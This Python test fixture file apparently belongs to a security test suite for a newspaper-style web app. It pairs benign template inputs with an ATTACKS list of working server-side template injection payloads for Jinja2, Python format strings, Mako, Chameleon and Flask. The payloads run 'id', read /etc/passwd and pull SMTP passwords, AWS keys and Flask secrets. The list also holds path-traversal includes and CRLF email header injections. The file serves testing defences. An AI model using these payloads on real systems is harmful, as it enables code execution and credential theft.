"""A newspaper's letters."""

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.seventh import (
    COMPANY,
    EMOJI,
    HTML_TALK,
    LETTER,
    LONG,
    NAMES,
    NESTED_URL,
    PATH_TALK,
    PYTHON_TALK,
    SHELL_TALK,
    SQL_TALK,
    STREET,
    TEMPLATE_TALK,
    XML_TALK,
    appsync,
    b64,
    bus,
    form,
    http,
    sqs,
)

PASSWORD = "smtp-pass-1618"


def _campaign(text: str, *to: str) -> dict[str, object]:
    return bus(
        "Campaign", {"text": text, "shop": COMPANY, "to": [{"first_name": name} for name in to or NAMES[:2]]}
    )


def _label(layout: str, **query: str) -> dict[str, object]:
    return http("GET", "/label", query={"layout": b64(layout), "name": "O'Brien", "town": "{Cork}", **query})


def _tag(form: str, title: str = "O'Brien's \"tea\" 100%") -> dict[str, object]:
    return {"tag": {"format": form, "title": title, "price": "2.5"}}


def _page(title: str, *blocks: str) -> dict[str, object]:
    return {"parts": {"title": title, "blocks": list(blocks), "items": ["a", "${b}", NAMES[2]]}}


def _preview(template: str, values: str = "{}") -> dict[str, object]:
    return appsync("Query", "preview", template=template, values=values)


_SYSTEM = "cycler.__init__.__globals__.os.popen('id').read()"
REQUESTS = {
    "welcome": [
        sqs({"name": NAMES[0], "place": COMPANY, "lines": [SHELL_TALK, TEMPLATE_TALK]}),
        sqs({"name": "{{ name }}", "lines": [SQL_TALK]}, {"name": "", "place": LONG}),
    ],
    "card": [
        http(
            "POST",
            "/card",
            {"title": HTML_TALK, "text": "# It's *new*\n\n```python\n" + PYTHON_TALK + "\n```\n"},
        ),
        http(
            "POST", "/card", {"title": TEMPLATE_TALK, "text": "| a | b |\n|---|---|\n| {{ x }} | `${y}` |\n"}
        ),
        http("POST", "/card", {"title": EMOJI, "text": f"[link]({NESTED_URL}) {PATH_TALK}"}),
    ],
    "campaign": [
        _campaign("Hi {{ first_name|upper }}, it's 50% off at {{ shop }} -- today & tomorrow!"),
        _campaign(
            "{% if first_name %}Dear {{ first_name }}{% else %}Hello{% endif %}; see https://x.org/?a={{ first_name|urlencode }}"
        ),
        _campaign(
            "{% set n = 3 %}{{ n * 2 }} days left, {{ first_name[0] }}. {# it's a note #}", "Ann", "Bo"
        ),
    ],
    "campaign_boxed": [
        _campaign("Hi {{ first_name }}: {{ [1, 2, 3]|sum }} {{ 'a' ~ 1 }} {{ first_name.upper() }}"),
        _campaign("Hi {{ first_name, you"),
        _campaign("{{ shop }}" + SHELL_TALK),
    ],
    "subject_line": [
        {
            "article": {
                "title": "Council: \"We can't\" & won't (100%)",
                "section": "Town's news",
                "urgent": True,
            }
        },
        {"article": {"title": "Why $5 {or less} buys {lots}", "section": ""}},
        {"article": {"title": PYTHON_TALK, "section": STREET}},
    ],
    "label": [
        _label("{reader:full}\n{today:%d/%m/%Y}"),
        _label("{reader.greeting} {reader.name:>12} {{x}}"),
        _label("{reader.name!s} -- {reader.town!r}", name="{0.__class__}", town=SQL_TALK),
    ],
    "label_fixed": [
        http("GET", "/label", query={"text": TEMPLATE_TALK}),
        http("GET", "/label", query={"kind": "bill", "text": "{date.__class__} %s " + SHELL_TALK}),
    ],
    "price_tag": [
        _tag("%(title)s: %(price).2f €"),
        _tag("%(title)-20s|%(price)08.3f"),
        _tag("100% of %(title)s"),
        _tag("%(nothing)s"),
    ],
    "news_page": [
        _page(
            "It's <new> & ${old}",
            "<p>${title}</p>",
            "<ul>\n% for one in items:\n<li>${one | h}</li>\n% endfor\n</ul>",
        ),
        _page(TEMPLATE_TALK, '<p>100% "fine", isn\'t it? ## no</p>', "${len(items)} items"),
    ],
    "news_text": [
        {"parts": {"title": HTML_TALK, "items": [TEMPLATE_TALK, "${7*7}", "<% x %>"]}},
        {"parts": {"title": NAMES[1], "items": ["% for x in y:", "## it's"]}},
    ],
    "invitation": [
        {"head": "You're <em>all</em> invited &amp; more; $5", "name": HTML_TALK},
        {"head": "Ünïcode {x} 🎉", "name": "${python: x}"},
    ],
    "hello": [
        form("/hello", {"name": 'O\'Brien & "co" <x>'}),
        form("/hello", {"name": "$ {x} %s #5"}),
        form("/hello/safe", {"name": "{{ 7*7 }} {% x %}"}),
        form("/hello/safe", {"name": PYTHON_TALK}),
    ],
    "mail": [
        {"subject": f"Re: {EMOJI}", "name": NAMES[3], "to": "o'brien+x@example.org", "text": LETTER},
        {
            "subject": 'It\'s 100%; "new"',
            "name": COMPANY,
            "to": "a@example.org",
            "text": SQL_TALK + "\n.\nQUIT\n",
        },
        {"subject": "two\nlines", "name": "x", "to": "a@example.org", "text": "y"},
    ],
    "mail_by_hand": [
        {
            "name": "Zoë O'Brien",
            "to": "z@example.org",
            "subject": "Bcc: or cc: -- what's better?",
            "text": "To: x\n\nBcc: y",
        },
        {"name": COMPANY, "to": "a@example.org", "subject": "re: it's", "title": True, "text": XML_TALK},
    ],
    "preview": [
        _preview("welcome", '{"name": "O\'Brien {{ x }}", "lines": ["a", "$(id)"]}'),
        _preview("{{ price * 2 + 1 }}", '{"price": 7}'),
        _preview("{{ 'it''s ' ~ name|title }}", '{"name": "ann lee"}'),
        _preview("Total {{ '%.2f' % total }} -- {{ name }}", '{"total": 3, "name": "{{ config }}"}'),
    ],
    "footer": [
        {"document": "name: O'Brien\ntags: [a, 'b: c']\n---\nText {{ name }} {% include 'x' %}\n"},
        {"document": "include: card.html\n---\n" + HTML_TALK},
    ],
    "sms": [
        {
            "text": "Hi $name, your code is ${code}; it costs $$5. $other",
            "values": {"name": NAMES[5], "code": "0042"},
        },
        {"text": LETTER, "values": {"name": "$code ${x.__class__}"}},
        {"text": "", "values": {}},
    ],
}
ATTACKS = [
    Attack("template", "campaign", _campaign("{{ " + _SYSTEM + " }}"), "uid="),
    Attack(
        "template",
        "campaign",
        _campaign("{{ self.__init__.__globals__.__builtins__.open('/etc/passwd').read(60) }}"),
        "root:x:0",
    ),
    Attack(
        "template",
        "campaign",
        _campaign(
            "{% set x = joiner.__init__.__globals__ %}{{ x['__builtins__']['__import__']('app').SMTP_PASSWORD }}"
        ),
        PASSWORD,
    ),
    Attack(
        "template",
        "campaign",
        _campaign(
            "{{ ''|attr('__class__')|attr('__mro__')|last|attr('__subclasses__')()|map(attribute='__name__')|join(' ') }}"
        ),
        "catch_warnings",
    ),
    Attack(
        "template",
        "campaign",
        _campaign(
            "{% for x in lipsum['__globals__'].values() %}{% if x['environ'] %}{{ x['environ']['AWS_SECRET_ACCESS_KEY'] }}{% endif %}{% endfor %}"
        ),
        "not-a-real-key",
    ),
    Attack("template", "subject_line", {"article": {"title": "News {{ " + _SYSTEM + " }}"}}, "uid="),
    Attack(
        "template, joined",
        "subject_line",
        {
            "article": {
                "title": "{{ cycler",
                "section": "attr('__init__')|attr('__globals__')|attr('get')('os')|attr('popen')('id')|attr('read')() }}",
            }
        },
        "uid=",
    ),
    Attack("template, format", "label", _label("{reader.__init__.__globals__[SMTP_PASSWORD]}"), PASSWORD),
    Attack(
        "template, format",
        "label",
        _label("{reader.__class__.__init__.__globals__[os].environ[AWS_SECRET_ACCESS_KEY]:s}"),
        "not-a-real-key",
    ),
    Attack(
        "template, format",
        "label",
        _label("{reader:full}{reader.__format__.__globals__[web].secret_key}"),
        "flask-secret-3141",
    ),
    Attack("template, mako", "news_page", _page("x", "${__import__('subprocess').getoutput('id')}"), "uid="),
    Attack(
        "template, mako",
        "news_page",
        _page("x", "<% import os %>", "${os.environ['AWS_SECRET_ACCESS_KEY']}"),
        "not-a-real-key",
    ),
    Attack(
        "template, mako", "news_page", _page("x", "<%! from app import SMTP_PASSWORD as p %>${p}"), PASSWORD
    ),
    Attack(
        "template, mako",
        "news_page",
        _page("x", "${self.template.module.runtime.util.os.popen('id').read()}"),
        "uid=",
    ),
    Attack(
        "template, chameleon",
        "invitation",
        {"head": "${__import__('os').popen('id').read()}", "name": "x"},
        "uid=",
    ),
    Attack(
        "template, chameleon",
        "invitation",
        {"head": "<b tal:content=\"python: open('/etc/passwd').read(40)\"/>", "name": "x"},
        "root:x:0",
    ),
    Attack(
        "template, flask", "hello", form("/hello", {"name": "{{ config.SECRET_KEY }}"}), "flask-secret-3141"
    ),
    Attack(
        "template, flask",
        "hello",
        form("/hello", {"name": "{{ url_for.__globals__['os'].popen('id').read() }}"}),
        "uid=",
    ),
    Attack(
        "template, flask",
        "hello",
        form(
            "/hello",
            {"name": "{{ request.application.__globals__.__builtins__.__import__('app').SMTP_PASSWORD }}"},
        ),
        PASSWORD,
    ),
    Attack("template, expression", "preview", _preview("{{ " + _SYSTEM + " }}"), "uid="),
    Attack(
        "template, expression",
        "preview",
        _preview(
            "{{ x.__class__.__base__.__subclasses__()|length > 100 and ''.join.__class__.__name__ }}",
            '{"x": "y"}',
        ),
        "builtin_function",
    ),
    Attack(
        "path, template", "footer", {"document": "include: ../secret.ini\n---\nx"}, "press-file-secret-404"
    ),
    Attack("path, template", "footer", {"document": "include: /etc/passwd\n---\nx"}, "root:x:0"),
    Attack(
        "template, quote",
        "footer",
        {
            "document": "include: \"welcome.txt' %}{{ cycler.__init__.__globals__.os.popen('id').read() }}{% include 'welcome.txt\"\n---\nx"
        },
        "uid=",
    ),
    Attack(
        "header",
        "mail_by_hand",
        {"name": "x", "to": "a@example.org", "subject": "hi\r\nBcc: victim-77@example.net", "text": "y"},
        "\\r\\nBcc: victim-77",
    ),
    Attack(
        "header",
        "mail_by_hand",
        {"name": "x@x.org>\r\nReply-To: <thief-77@example.net", "to": "a@b.c", "subject": "s", "text": "y"},
        "\\r\\nReply-To: <thief-77",
    ),
]
